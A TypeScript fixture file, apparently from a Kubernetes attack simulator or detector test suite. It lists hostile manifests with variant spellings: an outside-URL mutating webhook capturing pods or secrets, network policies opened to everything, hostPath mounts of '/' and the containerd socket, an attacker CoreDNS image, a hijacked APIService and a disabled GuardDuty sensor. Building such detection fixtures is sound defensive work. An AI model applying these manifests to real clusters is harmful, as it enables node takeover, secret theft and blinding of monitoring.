import type { JsonObject } from '../simulation/go-json.ts';
import { apps, core, grouped } from '../simulation/target.ts';
import type { Attack, Manner } from './attack.ts';
import { writes } from './attacks-rbac.ts';

const changes: readonly Manner[] = ['update', 'merge-patch', 'json-patch', 'apply'];

const webhook = (more: JsonObject = {}): JsonObject => ({
  kind: 'MutatingWebhookConfiguration',
  apiVersion: 'admissionregistration.k8s.io/v1',
  metadata: { name: 'helper' },
  webhooks: [
    {
      name: 'helper.example.net',
      clientConfig: { url: 'https://203.0.113.66/mutate', caBundle: 'LS0tLS1CRUdJTg==' },
      rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], scope: '*' }],
      failurePolicy: 'Ignore',
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
      ...more,
    },
  ],
});

const harmlessWebhook = webhook({
  clientConfig: { service: { name: 'helper', namespace: 'shop', path: '/mutate', port: 443 }, caBundle: 'LS0tLS1CRUdJTg==' },
  failurePolicy: 'Fail',
});

const policy = (spec: JsonObject): JsonObject => ({
  kind: 'NetworkPolicy',
  apiVersion: 'networking.k8s.io/v1',
  metadata: { name: 'default-deny', namespace: 'shop' },
  spec,
});
const denyAll = policy({ podSelector: {}, policyTypes: ['Ingress', 'Egress'] });

const namespace = (labels: JsonObject): JsonObject => ({
  kind: 'Namespace',
  apiVersion: 'v1',
  metadata: { name: 'shop', labels: { 'kubernetes.io/metadata.name': 'shop', ...labels } },
  spec: { finalizers: ['kubernetes'] },
});
const enforced = namespace({ 'pod-security.kubernetes.io/enforce': 'restricted' });
const enforce = 'pod-security.kubernetes.io/enforce';

const volume = (source: JsonObject): JsonObject => ({
  kind: 'PersistentVolume',
  apiVersion: 'v1',
  metadata: { name: 'data-x' },
  spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], persistentVolumeReclaimPolicy: 'Retain', ...source },
});

const service = (spec: JsonObject, metadata: JsonObject = {}): JsonObject => ({
  kind: 'Service',
  apiVersion: 'v1',
  metadata: { name: 'api', namespace: 'shop', ...metadata },
  spec: { selector: { app: 'api' }, ports: [{ port: 80, targetPort: 8080, protocol: 'TCP' }], ...spec },
});

const quota = (hard: JsonObject): JsonObject => ({
  kind: 'ResourceQuota',
  apiVersion: 'v1',
  metadata: { name: 'shop', namespace: 'shop' },
  spec: { hard },
});
const csr = (name: string, more: JsonObject): JsonObject => ({
  kind: 'CertificateSigningRequest',
  apiVersion: 'certificates.k8s.io/v1',
  metadata: { name },
  spec: { request: Buffer.from('-----BEGIN CERTIFICATE REQUEST-----\nMIIB').toString('base64'), usages: ['client auth'], ...more },
});
const sensor = (spec: JsonObject): JsonObject => ({
  kind: 'DaemonSet',
  apiVersion: 'apps/v1',
  metadata: { name: 'aws-guardduty-agent', namespace: 'amazon-guardduty', labels: { 'k8s-app': 'aws-guardduty-agent' } },
  spec: {
    selector: { matchLabels: { 'k8s-app': 'aws-guardduty-agent' } },
    template: {
      metadata: { labels: { 'k8s-app': 'aws-guardduty-agent' } },
      spec: {
        containers: [{ name: 'aws-guardduty-agent', image: '111122223333.dkr.ecr.eu-central-1.amazonaws.com/aws-guardduty-agent:v1.9.0' }],
        ...spec,
      },
    },
  },
});
const dns = (container: JsonObject): JsonObject => ({
  kind: 'Deployment',
  apiVersion: 'apps/v1',
  metadata: { name: 'coredns', namespace: 'kube-system', labels: { 'k8s-app': 'kube-dns' } },
  spec: {
    replicas: 2,
    selector: { matchLabels: { 'k8s-app': 'kube-dns' } },
    template: {
      metadata: { labels: { 'k8s-app': 'kube-dns' } },
      spec: {
        containers: [
          {
            name: 'coredns',
            image: '111122223333.dkr.ecr.eu-central-1.amazonaws.com/eks/coredns:v1.12.1-eksbuild.2',
            args: ['-conf', '/etc/coredns/Corefile'],
            ...container,
          },
        ],
      },
    },
  },
});
const annotated = (annotations: JsonObject): JsonObject => ({
  kind: 'ServiceAccount',
  apiVersion: 'v1',
  metadata: { name: 'api', namespace: 'shop', annotations },
});
const hooks = grouped('admissionregistration.k8s.io', 'mutatingwebhookconfigurations', undefined, 'helper');
const policies = grouped('networking.k8s.io', 'networkpolicies', 'shop', 'default-deny');

/** Objects that take a guard away, or put a listener in. */
export const policyAttacks: readonly Attack[] = [
  writes('webhook-outside', 'has every pod sent outside for mutation', ['D102'], hooks, webhook(), {
    before: harmlessWebhook,
    spellings: {
      'for all there is': webhook({ rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], scope: '*' }] }),
      'for secrets': webhook({
        rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'], scope: 'Namespaced' }],
      }),
      'beside a harmless one': {
        ...webhook(),
        webhooks: [
          ...(harmlessWebhook['webhooks'] as JsonObject[]),
          { ...(webhook()['webhooks'] as JsonObject[])[0], name: 'second.example.net' },
        ],
      },
    },
    generated: true,
  }),
  writes(
    'network-opened',
    'lets all traffic through',
    ['D119'],
    policies,
    policy({ podSelector: {}, policyTypes: ['Ingress', 'Egress'], ingress: [{}], egress: [{}] }),
    {
      before: denyAll,
      spellings: {
        'by address': policy({
          podSelector: {},
          policyTypes: ['Ingress', 'Egress'],
          ingress: [{ from: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }],
          egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }, { ipBlock: { cidr: '::/0' } }] }],
        }),
        'by two halves': policy({
          podSelector: {},
          policyTypes: ['Egress'],
          egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/1' } }, { ipBlock: { cidr: '128.0.0.0/1' } }] }],
        }),
        'by IPv6': policy({ podSelector: {}, policyTypes: ['Egress'], egress: [{ to: [{ ipBlock: { cidr: '::/0' } }] }] }),
        'by every namespace': policy({ podSelector: {}, policyTypes: ['Ingress'], ingress: [{ from: [{ namespaceSelector: {} }] }] }),
        'by an empty list of peers': policy({ podSelector: {}, policyTypes: ['Ingress'], ingress: [{ from: [] }] }),
        'after a narrow rule': policy({
          podSelector: {},
          policyTypes: ['Egress'],
          egress: [{ to: [{ podSelector: { matchLabels: { app: 'db' } } }] }, {}],
        }),
      },
    },
  ),
  writes(
    'guard-rail-lowered',
    "lowers a namespace's pod security",
    ['D080'],
    core('namespaces', 'shop', 'shop'),
    namespace({ [enforce]: 'privileged' }),
    {
      before: enforced,
      manners: changes,
      patch: { metadata: { labels: { [enforce]: 'privileged' } } },
      spellings: { 'to baseline': namespace({ [enforce]: 'baseline' }), removed: namespace({}) },
    },
  ),
  writes(
    'guard-rail-excluded',
    'takes a namespace out of the policy engine',
    ['D080'],
    core('namespaces', 'shop', 'shop'),
    namespace({ [enforce]: 'restricted', 'admission.gatekeeper.sh/ignore': 'yes' }),
    {
      before: enforced,
      manners: changes,
      patch: { metadata: { labels: { 'admission.gatekeeper.sh/ignore': 'yes' } } },
      least: 'low',
    },
  ),
  writes(
    'host-path-volume',
    "reaches the host's root through a volume",
    ['D077'],
    core('persistentvolumes', undefined, 'data-x'),
    volume({ hostPath: { path: '/' } }),
    {
      manners: ['create', 'apply-new'],
      spellings: {
        'as a local volume': volume({
          local: { path: '/var/lib/kubelet' },
          nodeAffinity: {
            required: {
              nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'In', values: ['ip-10-0-31-7'] }] }],
            },
          },
        }),
        'with doubled slashes': volume({ hostPath: { path: '//' } }),
        'with a slash at the end': volume({ hostPath: { path: '/etc/', type: 'Directory' } }),
        'through the root of process 1': volume({ hostPath: { path: '/proc/1/root/etc' } }),
        'of the socket': volume({ hostPath: { path: '/var/run/containerd/containerd.sock', type: 'Socket' } }),
      },
      generated: true,
    },
  ),
  writes(
    'client-certificate-asked',
    'asks for a client certificate',
    ['D092'],
    grouped('certificates.k8s.io', 'certificatesigningrequests', undefined, 'helper'),
    csr('helper', { signerName: 'kubernetes.io/kube-apiserver-client' }),
    {
      manners: ['create', 'apply-new'],
      spellings: {
        'for the kubelet': csr('helper', { signerName: 'kubernetes.io/kube-apiserver-client-kubelet' }),
        'with more usages': csr('helper', {
          signerName: 'kubernetes.io/kube-apiserver-client',
          usages: ['digital signature', 'key encipherment', 'client auth'],
          expirationSeconds: 31_536_000,
        }),
      },
      generated: true,
    },
  ),
  writes(
    'account-in-system-namespace',
    'creates an account in kube-system',
    ['D101'],
    core('serviceaccounts', 'kube-system', 'node-helper'),
    { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'node-helper', namespace: 'kube-system' } },
    {
      manners: ['create', 'apply-new'],
      least: 'low',
      generated: true,
    },
  ),
  writes(
    'role-arn-repointed',
    'points an account at another role of AWS',
    ['D098'],
    core('serviceaccounts', 'shop', 'api'),
    annotated({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/harbour-admin' }),
    {
      before: annotated({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/shop-api' }),
      patch: { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/harbour-admin' } } },
      spellings: { 'of another account': annotated({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::444455556666:role/x' }) },
      least: 'low',
    },
  ),
  writes(
    'admission-policy-weakened',
    'turns an admission policy to auditing',
    ['D103'],
    grouped('admissionregistration.k8s.io', 'validatingadmissionpolicybindings', undefined, 'no-privileged'),
    {
      kind: 'ValidatingAdmissionPolicyBinding',
      apiVersion: 'admissionregistration.k8s.io/v1',
      metadata: { name: 'no-privileged' },
      spec: { policyName: 'no-privileged', validationActions: ['Audit'] },
    },
    {
      before: {
        kind: 'ValidatingAdmissionPolicyBinding',
        apiVersion: 'admissionregistration.k8s.io/v1',
        metadata: { name: 'no-privileged' },
        spec: { policyName: 'no-privileged', validationActions: ['Deny'] },
      },
      manners: changes,
      least: 'low',
    },
  ),
  writes(
    'api-hijacked',
    "answers for one of the cluster's APIs",
    ['D104'],
    grouped('apiregistration.k8s.io', 'apiservices', undefined, 'v1beta1.metrics.k8s.io'),
    {
      kind: 'APIService',
      apiVersion: 'apiregistration.k8s.io/v1',
      metadata: { name: 'v1beta1.metrics.k8s.io' },
      spec: {
        service: { namespace: 'shop', name: 'api', port: 443 },
        group: 'metrics.k8s.io',
        version: 'v1beta1',
        insecureSkipTLSVerify: true,
        groupPriorityMinimum: 100,
        versionPriority: 100,
      },
    },
    {
      before: {
        kind: 'APIService',
        apiVersion: 'apiregistration.k8s.io/v1',
        metadata: { name: 'v1beta1.metrics.k8s.io' },
        spec: {
          service: { namespace: 'kube-system', name: 'metrics-server', port: 443 },
          group: 'metrics.k8s.io',
          version: 'v1beta1',
          groupPriorityMinimum: 100,
          versionPriority: 100,
        },
      },
    },
  ),
  writes(
    'sensor-starved',
    'has the sensor run on no node',
    ['D118'],
    apps('daemonsets', 'amazon-guardduty', 'aws-guardduty-agent'),
    sensor({ nodeSelector: { 'example.net/none': 'true' } }),
    {
      before: sensor({}),
      manners: changes,
      patch: { spec: { template: { spec: { nodeSelector: { 'example.net/none': 'true' } } } } },
      least: 'low',
    },
  ),
  writes(
    'cluster-dns-replaced',
    "replaces the cluster's resolver",
    ['D125'],
    apps('deployments', 'kube-system', 'coredns'),
    dns({ image: 'docker.io/attacker/coredns:1.12.1' }),
    {
      before: dns({}),
      manners: changes,
      patch: { spec: { template: { spec: { containers: [{ name: 'coredns', image: 'docker.io/attacker/coredns:1.12.1' }] } } } },
      spellings: { 'by arguments': dns({ args: ['-conf', '/tmp/Corefile'] }) },
      least: 'low',
    },
  ),
  writes(
    'cluster-dns-repointed',
    "points the resolver's service elsewhere",
    ['D125'],
    core('services', 'kube-system', 'kube-dns'),
    {
      kind: 'Service',
      apiVersion: 'v1',
      metadata: { name: 'kube-dns', namespace: 'kube-system' },
      spec: { selector: { app: 'helper' }, clusterIP: '172.20.0.10', ports: [{ port: 53, protocol: 'UDP' }] },
    },
    {
      before: {
        kind: 'Service',
        apiVersion: 'v1',
        metadata: { name: 'kube-dns', namespace: 'kube-system' },
        spec: { selector: { 'k8s-app': 'kube-dns' }, clusterIP: '172.20.0.10', ports: [{ port: 53, protocol: 'UDP' }] },
      },
      manners: changes,
      least: 'low',
    },
  ),
  writes('service-exposed', 'exposes a workload', ['D127'], core('services', 'shop', 'api'), service({ type: 'NodePort' }), {
    before: service({ type: 'ClusterIP', clusterIP: '172.20.14.9' }),
    spellings: {
      'by a load balancer to the internet': service(
        { type: 'LoadBalancer' },
        { annotations: { 'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internet-facing' } },
      ),
      'by a load balancer for all': service(
        { type: 'LoadBalancer', loadBalancerSourceRanges: ['0.0.0.0/0'] },
        { annotations: { 'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internet-facing' } },
      ),
      'by an address of others': service({ type: 'ClusterIP', externalIPs: ['198.51.100.9'] }),
    },
    least: 'low',
  }),
  writes(
    'quota-raised',
    'raises the quota',
    ['D120'],
    core('resourcequotas', 'shop', 'shop'),
    quota({ 'limits.cpu': '4000', 'limits.memory': '16Ti', pods: '10k' }),
    {
      before: quota({ 'limits.cpu': '40', 'limits.memory': '160Gi', pods: '100' }),
      manners: changes,
      spellings: {
        'a limit dropped': quota({ pods: '100' }),
        'in thousandths and bytes': quota({ 'limits.cpu': '4000000m', 'limits.memory': '17592186044416', pods: '1e4' }),
      },
      least: 'low',
    },
  ),
  writes(
    'node-relabelled',
    'relabels a node',
    ['D082'],
    core('nodes', undefined, 'ip-10-0-31-7.eu-central-1.compute.internal'),
    {
      kind: 'Node',
      apiVersion: 'v1',
      metadata: {
        name: 'ip-10-0-31-7.eu-central-1.compute.internal',
        labels: {
          'kubernetes.io/hostname': 'ip-10-0-31-7',
          'node-restriction.kubernetes.io/tier': 'payments',
          'topology.kubernetes.io/zone': 'eu-central-1a',
        },
      },
      spec: { providerID: 'aws:///eu-central-1a/i-0a1b2c3d4e5f60718' },
    },
    {
      before: {
        kind: 'Node',
        apiVersion: 'v1',
        metadata: {
          name: 'ip-10-0-31-7.eu-central-1.compute.internal',
          labels: {
            'kubernetes.io/hostname': 'ip-10-0-31-7',
            'node-restriction.kubernetes.io/tier': 'web',
            'topology.kubernetes.io/zone': 'eu-central-1a',
          },
        },
        spec: { providerID: 'aws:///eu-central-1a/i-0a1b2c3d4e5f60718', taints: [{ key: 'tier', value: 'web', effect: 'NoSchedule' }] },
      },
      manners: changes,
      patch: { metadata: { labels: { 'node-restriction.kubernetes.io/tier': 'payments' } } },
      least: 'low',
    },
  ),
];
